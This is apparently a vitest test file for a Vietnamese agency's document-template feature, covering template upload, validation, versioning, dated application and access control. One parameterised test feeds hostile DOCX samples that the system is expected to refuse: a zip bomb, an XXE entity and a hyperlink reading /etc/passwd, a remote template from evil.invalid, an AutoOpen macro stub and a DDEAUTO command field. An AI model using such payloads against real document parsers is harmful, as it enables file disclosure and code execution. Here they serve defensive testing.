import { approveDecision, draftDecisions, issueDecision, readDecisionPaper } from '@sangkien/contract/decision'
import { readRoundNotice } from '@sangkien/contract/regulation'
import { applyTemplate, compareTemplates, listTemplateFields, listTemplates, readBuiltInSample, readBuiltInTemplate, readTemplate, readTemplateFile, readTemplateSample, tryTemplateFile } from '@sangkien/contract/template'
import { readDocx } from '@sangkien/documents/checker/read-docx'
import { type TemplateKey, templateKeys } from '@sangkien/domain/document/template-key'
import type { DecisionId, PersonId, RoundId } from '@sangkien/domain/ids'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { aClosedSitting } from '../../test/a-closed-sitting.ts'
import { aTemplate } from '../../test/a-template.ts'
import { type Caller, refusedWith, world } from '../../test/world.ts'
import { converter } from '../document/converter.ts'
import { newId } from '../id.ts'

describe('templates of an agency’s own', () => {
  const w = world({ breaks: { because: 'dossiers with codes of their own stand beside those that were filed', names: ['codes of a year run without gaps up to their counter', 'versions of the regulation follow one another without a shared day'] } })
  let office: Caller
  let round: RoundId
  let decision: DecisionId
  let me: PersonId
  /** Another hour; sessions do not last so long. */
  const at = async (moment: string) => {
    w.now = new Date(moment)
    office = await w.as(me)
  }

  beforeAll(async () => {
    me = await w.person(['secretariat', 'decision_maker', 'records_clerk'], { unitId: w.otherUnit, fullName: 'Lê Thị Văn Thư' })
    office = await w.as(me)
    const closed = await aClosedSitting(w, [{ title: 'Đã họp', authors: [await w.person()], columns: { code: 'SK-2026-900' } }], { seats: [me] })
    decision = (await office(draftDecisions, { params: { id: closed.sitting } }))[0]!.id as DecisionId
    round = (await w.inside((tx) => tx.selectFrom('round').where('org_id', '=', w.org).select('id').executeTakeFirstOrThrow())).id
  }, 60_000)

  afterAll(() => converter().close())

  const send = async (key: TemplateKey, ...as: Parameters<typeof aTemplate> extends [unknown, ...infer Rest] ? Rest : never) => office.upload(tryTemplateFile, { params: { kind: key } }, await aTemplate(key, ...as))
  const apply = (kind: TemplateKey, fileId: string | null, from: string, note = '') => office(applyTemplate, { params: { kind }, body: { fileId, from, note } })
  const textOf = (bytes: Uint8Array) => readDocx(new Uint8Array(bytes)).text
  const notice = async () => textOf((await office.file(readRoundNotice, { params: { id: round, format: 'docx' } })).bytes)
  const paper = async () => textOf((await office.file(readDecisionPaper, { params: { id: decision, format: 'docx' } })).bytes)

  it('begins with the built-in ones of every paper, to download, to look at filled, with every field and an example', async () => {
    const rows = await office(listTemplates, {})
    expect(rows.map(({ key }) => key)).toEqual([...templateKeys])
    expect(rows.every(({ inForce, next }) => inForce === null && next === null)).toBe(true)
    const { disposition, bytes } = await office.file(readBuiltInTemplate, { params: { kind: 'round-notice' } })
    expect(decodeURIComponent(disposition)).toContain('Mẫu Thông báo đợt xét công nhận.docx')
    expect(textOf(bytes)).toContain('{numberLine}')
    expect(textOf((await office.file(readBuiltInSample, { params: { kind: 'round-notice', format: 'docx' } })).bytes)).toContain('Số: 05/TB-VP')
    const fields = await office(listTemplateFields, { params: { kind: 'recognition-decision' } })
    expect(fields.find(({ written }) => written === '{numberLine}')).toEqual({ written: '{numberLine}', says: 'Số, ký hiệu văn bản', kind: 'text', example: 'Số: 05/QĐ-VP', inside: null })
    expect(fields.find(({ written, inside }) => written === '{share}' && inside === 'initiatives')).toMatchObject({ says: 'Tỷ lệ đóng góp', example: '100%' })
    expect(fields.filter(({ says }) => says === '')).toEqual([])
  })

  it('says what is wrong with one that was sent, and keeps nothing of it', async () => {
    expect(await send('round-notice', [['{numberLine}', '{numbrLine}']])).toEqual({
      fileId: null, fileName: 'round-notice.docx', unused: [], form: [],
      faults: ['Không có trường {numbrLine}. Có phải là {numberLine}?', 'Thiếu trường {numberLine}: văn bản không thể không có nội dung này.'],
    })
    expect(await w.db.selectFrom('template_file').select('id').execute()).toEqual([])
  })

  it('tries it with the worst data and says which rules of the form it breaks; an office may still choose it', async () => {
    const { fileId, faults, form } = await send('round-notice', [['THÔNG BÁO', 'Thông Báo']])
    expect({ kept: fileId !== null, faults }).toEqual({ kept: true, faults: [] })
    expect(form.map(({ rule }) => rule)).toContain('C09')
    expect(textOf((await office.file(readTemplateSample, { params: { id: fileId!, format: 'docx' }, query: { facts: 'worst' } })).bytes)).toContain('Thông Báo')
    const { left, right } = await office(compareTemplates, { params: { kind: 'round-notice' }, query: { right: fileId! } })
    const words = ({ pages }: typeof left) => pages[0]!.words.map(({ text }) => text).join(' ')
    expect([words(left).includes('THÔNG BÁO'), words(right).includes('Thông Báo'), words(right).includes('THÔNG BÁO')]).toEqual([true, true, false])
    await expect(office(compareTemplates, { params: { kind: 'minutes' }, query: { right: fileId! } })).rejects.toMatchObject({ status: 404 })
  }, 120_000)

  it('makes papers from its day on, and an earlier one or the built-in one again by one act', async () => {
    const first = await send('round-notice', [['THÔNG BÁO', 'THÔNG BÁO NỘI BỘ']])
    const second = await send('round-notice', [['THÔNG BÁO', 'THÔNG BÁO CHUNG']])
    expect([first.form, second.form]).toEqual([[], []])
    expect(await apply('round-notice', first.fileId, '2026-11-24', 'Mẫu mới')).toMatchObject({ inForce: null, next: { version: 1, validFrom: '2026-11-24', fileName: 'round-notice.docx', madeByName: 'Lê Thị Văn Thư', note: 'Mẫu mới' } })
    expect(await notice()).not.toContain('NỘI BỘ')
    await at('2026-11-24T02:00:00Z')
    expect(await notice()).toContain('THÔNG BÁO NỘI BỘ')
    await apply('round-notice', second.fileId, '2026-11-24')
    expect(await notice()).toContain('THÔNG BÁO CHUNG')
    await apply('round-notice', first.fileId, '2026-11-24')
    expect(await notice()).toContain('THÔNG BÁO NỘI BỘ')
    const whole = await apply('round-notice', null, '2026-11-24')
    expect(whole.versions.map(({ version, fileId, inForce }) => [version, fileId, inForce])).toEqual([[4, null, true], [3, first.fileId, false], [2, second.fileId, false], [1, first.fileId, false]])
    expect(await notice()).not.toContain('NỘI BỘ')
    expect(textOf((await office.file(readTemplateFile, { params: { id: first.fileId! } })).bytes)).toContain('THÔNG BÁO NỘI BỘ')
    expect((await w.db.selectFrom('history').where('noun', '=', 'template').select('what').orderBy('seq').execute()).map(({ what }) => what)).toEqual(['template.applied', 'template.applied', 'template.applied', 'template.built_in_again'])
  }, 120_000)

  it('leaves a decision as it was issued, though another template begins on the same day', async () => {
    await at('2026-11-24T02:30:00Z')
    await office(approveDecision, { params: { id: decision }, body: { version: 1 } })
    await office(issueDecision, { params: { id: decision }, body: { version: 2, number: 7, dated: '2026-11-24' } })
    const issued = await paper()
    await at('2026-11-24T03:00:00Z')
    const other = await send('recognition-decision', [['QUYẾT ĐỊNH:', 'QUYẾT ĐỊNH NHƯ SAU:']])
    await apply('recognition-decision', other.fileId, '2026-11-24')
    expect(await paper()).toBe(issued)
  }, 60_000)

  it('refuses a day gone by, and a return from nothing', async () => {
    const { fileId } = await send('invitation')
    await expect(apply('invitation', fileId, '2026-11-23')).rejects.toMatchObject(refusedWith('template.in_the_past', 409))
    await expect(apply('invitation', null, '2026-11-24')).rejects.toMatchObject(refusedWith('template.built_in_already', 409))
  })

  const relation = (type: string, target: string) => `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
  it.each<[string, Parameters<typeof aTemplate>[1], Parameters<typeof aTemplate>[2], string]>([
    ['a zip bomb', [], { 'word/bomb.xml': Buffer.alloc(120 * 1024 * 1024) }, 'Tệp quá lớn khi giải nén'],
    ['a link to a file of the server', [], { 'word/_rels/footnotes.xml.rels': relation('hyperlink', 'file:///etc/passwd') }, 'Tệp có liên kết ra ngoài'],
    ['a template fetched from elsewhere', [], { 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'http://evil.invalid/a.dotm') }, 'Tệp tự lấy nội dung từ nơi khác'],
    ['a macro', [], { 'word/vbaProject.bin': 'Sub AutoOpen()' }, 'Tệp có macro'],
    ['an entity (XXE)', [['<w:document ', '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document ']], {}, 'Tệp có khai báo thực thể XML'],
    ['a field that runs something', [['</w:body>', '<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p></w:body>']], {}, 'Tệp có trường lệnh của Word (DDEAUTO)'],
  ])('refuses %s with its reason, and keeps nothing', async (_what, words, parts, reason) => {
    const kept = () => w.db.selectFrom('template_file').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()
    const before = await kept()
    await expect(send('acceptance-notice', words, parts)).rejects.toMatchObject({ fault: { refusal: { code: 'template.unsafe', reason: expect.stringContaining(reason) as string } } })
    expect(await kept()).toEqual(before)
  })

  it('is read by those who keep the papers, changed by fewer, and by nobody else', async () => {
    const { fileId } = await send('invitation')
    const admin = await w.as(await w.person(['administrator']))
    expect((await admin(readTemplate, { params: { kind: 'invitation' } })).mayChange).toBe(false)
    await expect(admin(applyTemplate, { params: { kind: 'invitation' }, body: { fileId, from: '2026-11-24' } })).rejects.toMatchObject({ status: 403 })
    await expect(admin.upload(tryTemplateFile, { params: { kind: 'invitation' } }, await aTemplate('invitation'))).rejects.toMatchObject({ status: 403 })
    const staff = await w.as(await w.person())
    await expect(staff(listTemplates, {})).rejects.toMatchObject({ status: 403 })
    await expect(staff.file(readTemplateFile, { params: { id: fileId! } })).rejects.toMatchObject({ status: 403 })
    await expect(office.file(readTemplateFile, { params: { id: newId() } })).rejects.toMatchObject({ status: 404 })
    await expect(apply('invitation', newId(), '2026-11-24')).rejects.toMatchObject({ status: 404 })
    await expect(apply('minutes', fileId, '2026-11-24')).rejects.toMatchObject({ status: 404 })
  })
})
